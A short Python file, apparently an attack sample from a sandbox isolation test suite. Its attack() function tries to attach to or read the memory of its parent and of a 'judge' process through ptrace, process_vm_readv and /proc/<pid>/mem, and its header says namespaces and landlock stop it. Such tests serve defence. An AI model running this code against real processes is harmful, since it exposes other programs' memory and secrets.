# kind: theft
# verdict: wrong_value
# stopped by: namespaces, landlock
"""Attaches to its parent and to the judge, or reads their memory."""
import ctypes
import os
import struct


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    ours = ctypes.create_string_buffer(8)
    vector = struct.pack("@PN", ctypes.addressof(ours), 8)
    for pid in (os.getppid(), BAIT["pid"]):
        if libc.ptrace(0x4206, pid, 0, 0) == 0:
            return f"traces {pid}"
        if libc.process_vm_readv(pid, vector, 1, vector, 1, 0) > 0:
            return f"reads {pid}"
        try:
            os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
            return f"opens the memory of {pid}"
        except OSError:
            pass
    return ""
